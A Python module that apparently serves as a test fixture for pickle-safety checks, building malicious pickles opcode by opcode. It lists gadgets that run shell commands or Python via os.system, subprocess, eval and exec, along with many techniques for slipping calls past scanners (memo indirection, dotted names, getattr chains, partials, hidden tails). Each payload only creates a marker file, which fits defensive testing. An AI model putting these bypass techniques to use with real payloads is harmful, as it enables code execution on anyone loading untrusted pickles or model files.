"""Pickles made to run code, opcode by opcode.

Whatever code they run creates a marker file and does nothing else; none is ever executed here.
"""

import pickle
import struct
from collections.abc import Iterator
from itertools import chain

_STOP = b"."


def text(value: str) -> bytes:
    """Return the opcodes that push a text."""
    return pickle.BINUNICODE + struct.pack("<I", len(value.encode())) + value.encode()


def content(value: bytes) -> bytes:
    """Return the opcodes that push bytes."""
    return pickle.BINBYTES + struct.pack("<I", len(value)) + value


def named(module: str, name: str) -> bytes:
    """Return the opcodes that push a global, as protocols 0 to 3 do."""
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    """Return the opcodes that push a global, as protocols 4 and 5 do."""
    return text(module) + text(name) + pickle.STACK_GLOBAL


def call(function: bytes, *arguments: bytes) -> bytes:
    """Return the opcodes that call what ``function`` pushes."""
    return function + pickle.MARK + b"".join(arguments) + pickle.TUPLE + pickle.REDUCE


def number(value: int) -> bytes:
    """Return the opcodes that push an integer."""
    return pickle.dumps(value, 2)[2:-1]


def gadgets(marker: str) -> dict[tuple[str, str], bytes]:
    """Return callables that need one call to run code, with the opcodes of their arguments.

    Args:
        marker: path of the file that they create.
    """
    return {**_commands(marker), **_programs(marker), **_files(marker)}


def _commands(marker: str) -> dict[tuple[str, str], bytes]:
    """Return those that start a shell."""
    command = f"touch '{marker}'"
    shell = text("/bin/sh") + text("/bin/sh") + text("-c") + text(command)
    words = pickle.MARK + text("/bin/sh") + text("-c") + text(command) + pickle.LIST
    return {
        ("os", "system"): text(command),
        ("posix", "system"): text(command),
        ("os", "popen"): text(command),
        ("os", "spawnl"): number(0) + shell,
        ("subprocess", "Popen"): words,
        ("subprocess", "run"): words,
        ("subprocess", "check_output"): words,
        ("subprocess", "getoutput"): text(command),
        ("pty", "spawn"): words,
        ("torch.utils.collect_env", "run"): text(command),
        ("webdataset", "gopen"): text(f"pipe:{command}"),
    }


def _programs(marker: str) -> dict[tuple[str, str], bytes]:
    """Return those that run Python."""
    program = f"open({marker!r}, 'w').close()"
    nested = call(named("io", "open"), text(marker), text("w")) + _STOP
    return {
        ("builtins", "eval"): text(f"open({marker!r}, 'w')"),
        ("builtins", "exec"): text(program),
        ("timeit", "timeit"): text("pass") + text(program),
        ("cProfile", "run"): text(program),
        ("profile", "run"): text(program),
        ("trace", "Trace.run"): call(named("trace", "Trace")) + text(program),
        ("code", "InteractiveInterpreter.runsource"): call(named("code", "InteractiveInterpreter")) + text(program),
        ("pickle", "loads"): content(nested),
        ("_pickle", "loads"): content(nested),
        ("marshal", "loads"): content(b"\xe3"),
        ("numpy.testing", "runstring"): text(program) + b"}",
        ("numpy.testing._private.utils", "runstring"): text(program) + b"}",
        ("torch.jit", "CompilationUnit"): text("def f(): pass"),
        ("webdataset", "add_safe_globals"): named("builtins", "eval") + pickle.TUPLE1,
    }


def _files(marker: str) -> dict[tuple[str, str], bytes]:
    """Return those that make or read files."""
    return {
        ("io", "open"): text(marker) + text("w"),
        ("_io", "FileIO"): text(marker) + text("w"),
        ("builtins", "open"): text(marker) + text("w"),
        ("__builtin__", "open"): text(marker) + text("w"),
        ("__builtin__", "file"): text(marker) + text("w"),
        ("os", "mkdir"): text(marker),
        ("pathlib", "Path.touch"): call(named("pathlib", "PosixPath"), text(marker)),
        ("shelve", "open"): text(marker),
        ("dbm.dumb", "open"): text(marker) + text("n"),
        ("sqlite3", "connect"): text(marker),
        ("logging", "FileHandler"): text(marker),
        ("tarfile", "open"): text(marker) + text("w"),
        ("zipfile", "ZipFile"): text(marker) + text("w"),
        ("gzip", "open"): text(marker) + text("w"),
        ("shutil", "copyfile"): text("/dev/null") + text(marker),
        ("distutils.file_util", "write_file"): text(marker) + b"]",
        ("numpy", "save"): text(marker) + number(1),
        ("numpy", "fromfile"): text(marker),
        ("numpy", "memmap"): text(marker)
        + text("u1")
        + text("w+")
        + number(0)
        + pickle.MARK
        + number(1)
        + pickle.TUPLE,
        ("torch", "save"): number(1) + text(marker),
    }


def _forms(marker: str) -> Iterator[tuple[str, bytes]]:
    """Yield the ways to make a pickle call something."""
    return chain(_opcodes(marker), _hidden(marker), _detours(marker), _constructors(marker))


def _opcodes(marker: str) -> Iterator[tuple[str, bytes]]:
    """Yield the ways to make a pickle call something, opcode by opcode."""
    arguments = text(marker) + text("w")
    opened = call(named("io", "open"), arguments)
    packed = pickle.MARK + arguments + pickle.TUPLE
    yield "INST", pickle.MARK + arguments + pickle.INST + b"_io\nFileIO\n"
    yield "OBJ", pickle.MARK + named("_io", "FileIO") + arguments + pickle.OBJ
    yield "NEWOBJ", named("subprocess", "Popen") + packed + pickle.NEWOBJ + b"0" + opened
    yield "NEWOBJ_EX", named("_io", "FileIO") + packed + b"}" + pickle.NEWOBJ_EX + b"0" + opened
    for width, opcode in ((1, pickle.EXT1), (2, pickle.EXT2), (4, pickle.EXT4)):
        yield f"EXT{width}", opcode + (0x70).to_bytes(width, "little") + packed + pickle.REDUCE + b"0" + opened
    yield "PERSID", pickle.PERSID + marker.encode() + b"\n0" + opened
    yield "BINPERSID", text(marker) + pickle.BINPERSID + b"0" + opened
    yield (
        "BUILD a class",
        named("collections", "Counter")
        + pickle.NONE
        + b"}"
        + text("update")
        + named("os", "system")
        + b"s"
        + pickle.TUPLE2
        + pickle.BUILD
        + b"0"
        + opened,
    )
    yield "BUILD a state", call(named("os", "_Environ")) + b"}" + pickle.BUILD + b"0" + opened


def _hidden(marker: str) -> Iterator[tuple[str, bytes]]:
    """Yield calls whose results, parts or ends are hidden."""
    arguments = text(marker) + text("w")
    opened = call(named("io", "open"), arguments)
    packed = pickle.MARK + arguments + pickle.TUPLE
    yield "hidden in a list", b"]" + opened + b"a"
    yield "hidden in a key", b"}" + opened + b"Ns"
    yield "hidden in a set", pickle.EMPTY_SET + pickle.MARK + opened + pickle.ADDITEMS
    yield "popped", opened + b"0N"
    yield "popped to a mark", b"N" + pickle.MARK + opened + pickle.POP_MARK
    yield "broken tail", opened + b"0\xff\xff"
    yield (
        "module from the memo",
        text("io") + b"q\x00" + b"0" + call(b"h\x00" + text("open") + pickle.STACK_GLOBAL, arguments),
    )
    yield "name from the memo", text("open") + b"p7\n0" + text("io") + call(b"g7\n" + pickle.STACK_GLOBAL, arguments)
    yield "function from the memo", named("io", "open") + b"r\x09\0\0\x00" + b"0" + call(b"j\x09\0\0\x00", arguments)
    yield "arguments from the memo", packed + pickle.MEMOIZE + b"0" + named("io", "open") + b"h\x00" + pickle.REDUCE
    yield "duplicated function", named("io", "open") + pickle.DUP + packed + pickle.REDUCE


def _detours(marker: str) -> Iterator[tuple[str, bytes]]:
    """Yield calls of what is not named itself."""
    arguments = text(marker) + text("w")
    opened = call(named("io", "open"), arguments)
    command = text(f"touch '{marker}'")
    yield "dotted name", call(stacked("subprocess", "os.system"), command)
    yield "dotted from an allowed class", call(stacked("datetime", "sys.modules.__class__.fromkeys"), b"]") + opened
    yield "dotted from builtins", call(stacked("builtins", "open.__call__"), arguments)
    yield (
        "getattr chain",
        call(
            call(named("builtins", "getattr"), call(named("builtins", "__import__"), text("os")), text("system")),
            command,
        ),
    )
    yield (
        "import_module",
        call(
            call(named("builtins", "getattr"), call(named("importlib", "import_module"), text("os")), text("system")),
            command,
        ),
    )
    yield "resolve_name", call(call(named("pkgutil", "resolve_name"), text("os:system")), command)
    yield (
        "attrgetter",
        call(
            call(
                call(named("operator", "attrgetter"), text("system")),
                named("os", "path") + b"0" + named("builtins", "print"),
            )
        )
        + b"0"
        + opened,
    )
    yield (
        "methodcaller",
        call(
            call(named("operator", "methodcaller"), text("system"), command),
            call(named("builtins", "__import__"), text("os")),
        ),
    )


def _constructors(marker: str) -> Iterator[tuple[str, bytes]]:
    """Yield calls by what makes objects of others."""
    arguments = text(marker) + text("w")
    opened = call(named("io", "open"), arguments)
    command = text(f"touch '{marker}'")
    yield "partial", call(call(named("functools", "partial"), named("io", "open"), arguments))
    yield (
        "map",
        call(
            named("builtins", "list"),
            call(named("builtins", "map"), named("os", "system"), pickle.MARK + command + pickle.LIST),
        ),
    )
    yield (
        "default factory",
        call(named("collections", "defaultdict"), call(named("functools", "partial"), named("os", "system"), command))
        + b"0"
        + opened,
    )
    yield (
        "reconstructor",
        call(named("copyreg", "_reconstructor"), named("_io", "FileIO"), named("_io", "FileIO"), text(marker))
        + b"0"
        + opened,
    )
    yield "__newobj__", call(named("copyreg", "__newobj__"), named("_io", "FileIO"), text(marker)) + b"0" + opened
    yield "codec", call(named("_codecs", "encode"), text("x"), text("rot13")) + b"0" + opened
    yield (
        "numpy reconstruct",
        call(
            named("numpy.core.multiarray", "_reconstruct"),
            named("_io", "FileIO"),
            pickle.MARK + number(0) + pickle.TUPLE,
            content(b"b"),
        )
        + b"0"
        + opened,
    )
    yield "torch storage", call(named("torch.storage", "_load_from_bytes"), content(opened + _STOP)) + b"0" + opened
    yield "two pickles", opened + _STOP + opened


def executing(marker: str) -> dict[str, bytes]:
    """Return pickles that create the marker where they are loaded without care.

    Args:
        marker: path of the file that they create.
    """
    made: dict[str, bytes] = {}
    for (module, name), arguments in gadgets(marker).items():
        made[f"{module}.{name} by STACK_GLOBAL"] = b"\x80\x04" + call(stacked(module, name), arguments) + _STOP
        if "." not in name:
            made[f"{module}.{name} by GLOBAL"] = call(named(module, name), arguments) + _STOP
    forms = dict(_forms(marker))
    for form, body in forms.items():
        made[form] = b"\x80\x04" + body + _STOP
    opened = forms["popped"]
    for protocol in range(6):
        framed = pickle.FRAME + struct.pack("<Q", len(opened) + 1) if protocol >= 4 else b""
        head = pickle.PROTO + bytes([protocol]) if protocol >= 2 else b""
        made[f"protocol {protocol}"] = head + framed + opened + _STOP
    return made
